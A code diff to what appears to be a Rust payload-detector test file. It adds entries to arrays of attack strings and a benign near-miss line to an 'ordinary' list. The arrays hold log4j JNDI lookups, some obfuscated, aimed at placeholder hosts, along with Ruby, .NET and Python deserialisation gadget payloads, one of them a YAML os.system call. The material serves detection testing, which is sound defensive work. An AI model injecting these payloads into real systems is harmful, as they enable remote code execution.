@@ -246,8 +246,13 @@ const SSRF: &[&str] = &[
     r#"http://10.0.0.1/admin"#,
 ];
 
-/// Java: log4j lookups, nested and encoded; deserialisation; OGNL and SpEL; class-loader parameters.
+/// Java: log4j lookups, nested and encoded; deserialisation (with Ruby's, Python's
+/// and .NET's); OGNL and SpEL; class-loader parameters.
 const JAVA: &[&str] = &[
+    r#"--- !ruby/object:Gem::Installer"#,
+    r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}"#,
+    r#"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3Jtcw=="#,
+    r#"!!python/object/apply:os.system ["id"]"#,
     r#"${jndi:ldap://x.example/a}"#,
     r#"${${lower:j}ndi:ldap://x/a}"#,
     r#"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"#,
@@ -402,6 +407,7 @@ const ORDINARY: &[&str] = &[
     "Congratulations!\nTo: Sarah\nFrom: Dad",
     "Dear all,\nFrom: the office\nSubject: party",
     "Price (USD)(VAT=20%)",
+    "Our app uses System.Diagnostics.Process to launch tools",
     "Skills: Java; Python; Ruby; Go",
     "Languages: C | Perl | PHP",
     "He said: 'order by Friday or we cancel'",
